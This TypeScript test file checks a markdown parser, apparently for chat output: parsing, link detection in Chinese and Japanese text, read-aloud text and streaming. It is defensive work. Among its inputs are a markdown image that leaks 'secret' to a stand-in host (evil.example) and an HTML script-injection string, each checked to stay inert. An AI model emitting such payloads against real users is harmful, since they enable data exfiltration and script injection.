// Text becomes the tree it says, and nothing else: whatever is not in the subset stays text.

import assert from "node:assert/strict";
import { test } from "node:test";
import { aloud, blocks, inline, settled, type Block, type Inline } from "../src/markdown";

const kinds = (text: string): string[] => blocks(text).map((block) => block.kind);

/** All the characters of a tree, in order. */
function said(tree: Inline[] | Block[]): string {
  return tree
    .map((each: Inline | Block): string => {
      if (typeof each === "string") return each;
      if (each.kind === "mark") return `[${each.number}]`;
      if (each.kind === "code" || each.kind === "pre") return each.text;
      if (each.kind === "ul" || each.kind === "ol") return each.items.map(said).join("");
      if (each.kind === "table") return [...each.head, ...each.rows.flat()].map(said).join("");
      // an address that may not be followed is shown behind its label
      const address = each.kind === "link" && said(each.inside) !== each.address ? each.address : "";
      return said(each.inside) + address;
    })
    .join("");
}

test("paragraphs, lists, tables, headings and code are told apart", () => {
  const text = "# Times\nTake it.\n\n- one\n- two\n3. three\n4. four\nPaid | Days\n--- | ---\nCard | 3\n```\na | b\n- c\n```\nend";
  assert.deepEqual(kinds(text), ["h", "p", "ul", "ol", "table", "pre", "p"]);
  const [, , list, numbered, table, code] = blocks(text);
  assert.deepEqual(list, { kind: "ul", items: [["one"], ["two"]] });
  assert.deepEqual(numbered, { kind: "ol", start: 3, items: [["three"], ["four"]] });
  assert.deepEqual(table, { kind: "table", head: [["Paid"], ["Days"]], rows: [[["Card"], ["3"]]] });
  assert.deepEqual(code, { kind: "pre", text: "a | b\n- c" });
});

test("a single line with a bar is a sentence, and a code fence that never ends takes the rest", () => {
  assert.deepEqual(kinds("this | that"), ["p"]);
  assert.deepEqual(blocks("```sh\nx\ny"), [{ kind: "pre", text: "x\ny" }]);
  assert.deepEqual(kinds("``` is three marks"), ["p"]);
});

test("emphasis, code, links and marks of sources", () => {
  assert.deepEqual(inline("a **b *c*** `d` [e](https://x.org/f) g. [2]"), [
    "a ",
    { kind: "strong", inside: ["b ", { kind: "em", inside: ["c"] }] },
    " ",
    { kind: "code", text: "d" },
    " ",
    { kind: "link", address: "https://x.org/f", inside: ["e"] },
    " g.",
    { kind: "mark", number: 2 },
  ]);
});

test("an address alone is a link without the punctuation behind it", () => {
  const found = inline("See https://x.org/a(b). Or https://y.org/?q=1, now");
  const addresses = found.flatMap((each) => (typeof each === "object" && each.kind === "link" ? [each.address] : []));
  assert.deepEqual(addresses, ["https://x.org/a(b", "https://y.org/?q=1"]);
});

test("an address in Chinese or Japanese text, which has no spaces, is a link and ends where the words go on", () => {
  const addresses = (text: string): string[] =>
    inline(text).flatMap((each) => (typeof each === "object" && each.kind === "link" ? [each.address] : []));
  assert.deepEqual(addresses("详情请见https://x.org/help?q=1，或者https://y.org/a。谢谢"), ["https://x.org/help?q=1", "https://y.org/a"]);
  assert.deepEqual(addresses("请打开https://x.org/help查看（https://y.org/b）"), ["https://x.org/help", "https://y.org/b"]);
  assert.deepEqual(addresses("詳しくはhttps://x.org/をご覧ください"), ["https://x.org/"]);
  assert.deepEqual(addresses("在 https://x.org/a-b_c/ü 看"), ["https://x.org/a-b_c/ü"]);
  assert.deepEqual(inline("xhttps://x.org"), ["xhttps://x.org"]);
  assert.deepEqual(addresses("[帮助](https://x.org/帮助)"), ["https://x.org/帮助"]);
});

test("what only looks like a marker stays", () => {
  for (const text of ["2*3*4 = 24", "snake_case_name", "5 * 3", "* alone", "[no link]", "![", "**", "__init__.py", "a_b_", "http://x.org"]) {
    assert.deepEqual(inline(text), [text]);
  }
});

test("a picture is never one: its address stays text or becomes a link that nobody follows by itself", () => {
  const found = inline("![alt](https://evil.example/?q=secret)");
  assert.deepEqual(found, ["!", { kind: "link", address: "https://evil.example/?q=secret", inside: ["alt"] }]);
});

test("html is text", () => {
  const text = "<img src=x onerror=alert(1)><script>alert(1)</script> &lt;b&gt;";
  assert.deepEqual(blocks(text), [{ kind: "p", inside: [text] }]);
});

test("the tree holds every letter of the text", () => {
  const letters = (text: string): string => text.replace(/[^\p{L}\p{N}]/gu, "");
  const pieces = ["a", " ", "\n", "\n\n", "**", "*", "_", "`", "- ", "1. ", "# ", " | ", "[", "]", "(", ")", "[1]", "word", "中文"];
  let seed = 7;
  const random = (): number => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
  for (let trial = 0; trial < 3_000; trial++) {
    const text = Array.from({ length: 1 + random() * 14 }, () => pieces[Math.floor(random() * pieces.length)]).join("");
    const kept = letters(said(blocks(text)));
    const wanted = letters(text.replace(/^ {0,3}\d{1,3}[.)] +/gm, ""));
    assert.equal(kept, wanted, JSON.stringify(text));
  }
});

test("hostile text costs no more than a moment", () => {
  for (const text of ["*".repeat(8_000), "[".repeat(8_000), "**a".repeat(3_000), "[a](".repeat(3_000), "`a".repeat(4_000), "_a ".repeat(3_000), "| ".repeat(4_000)]) {
    const began = performance.now();
    blocks(text);
    assert.ok(performance.now() - began < 1_500, text.slice(0, 8));
  }
});

test("what is read aloud has words and no markers", () => {
  const text = "# Times\nIt **takes** [5 days](https://x.org). [1]\n- one\n- `two`\nPaid | Days\nCard | 3";
  assert.equal(aloud(text), "Times\nIt takes 5 days.\none\ntwo\nPaid, Days\nCard, 3");
});

test("what is half written is kept back until it is whole", () => {
  assert.equal(settled("It takes 5 days. [1"), "It takes 5 days.");
  assert.equal(settled("It takes 5 days. [1]"), "It takes 5 days. [1]");
  assert.equal(settled("See [our page](https://x.o"), "See our page");
  assert.equal(settled("See [our pa"), "See our pa");
  assert.equal(settled("This is **impor"), "This is impor");
  assert.equal(settled("Use `cod"), "Use cod");
  assert.equal(settled("2 * 3"), "2 * 3");
});
